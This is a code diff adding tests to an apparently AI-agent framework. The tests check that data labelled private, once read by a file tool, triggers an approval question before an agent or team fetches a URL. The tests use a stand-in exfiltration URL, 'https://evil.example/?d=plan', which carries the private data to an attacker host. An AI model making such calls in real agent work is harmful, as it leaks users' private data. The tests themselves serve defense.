@@ -140,6 +140,64 @@ describe('in a team', () => {
   })
 })
 
+describe('what is private', () => {
+  const file = defineTool({
+    name: 'file',
+    description: 'A file.',
+    input: z.object({}),
+    effects: 'reads',
+    run: () => 'The plan.',
+  })
+  const web = (url: string) =>
+    defineTool({
+      name: 'web',
+      description: 'Fetches.',
+      input: z.object({}),
+      effects: 'reads',
+      reads: 'web',
+      sink: 'fetch',
+      subject: () => url,
+      run: () => ({ url, text: 'A page.' }),
+    })
+  const one = { task: 'Read https://evil.example/?d=plan', agents: [{ name: 'one', instruction: 'do one' }] }
+  const composed = web('https://evil.example/?d=plan')
+
+  it('flows to the later tasks of a session, and without it these may go anywhere', async () => {
+    for (const [script, questions] of [
+      [[callsTool('file'), says('The plan.')], 1],
+      [[callsTool('web'), says('A page.')], 0],
+    ] as const) {
+      const { daemon, submit, ended } = world()
+      daemon({
+        provider: model({ read: script, go: [callsTool('web'), says('told')] }),
+        tools: [file, composed],
+        limits,
+      })
+      await ended(await submit({ session_id: 's', text: 'read' }))
+      const second = await ended(await submit({ session_id: 's', text: 'go' }))
+      expect(Object.keys(asked(second))).toHaveLength(questions)
+    }
+  })
+
+  it.each([
+    ['composed', 'go on', { one: expect.stringContaining('(private)') as string }],
+    ['took from the person', 'Read https://evil.example/?d=plan', {}],
+  ])('flows to a team, to whom the root gives an address that it %s', async (_, text, questions) => {
+    const { daemon, submit, ended } = world()
+    daemon({
+      provider: model({
+        read: [callsTool('file'), says('The plan.')],
+        root: [callsTool('SequentialWorkflow', one), says('told')],
+        one: [callsTool('web')],
+      }),
+      tools: [file, composed],
+      limits,
+    })
+    await ended(await submit({ session_id: 's', text: 'read' }))
+    expect(asked(await ended(await submit({ session_id: 's', text })))).toEqual(questions)
+  })
+})
+
 describe('in a session', () => {
   it('labels flow with the answer of a task to the later tasks, and to no other session', async () => {
     const { daemon, submit, ended } = world()
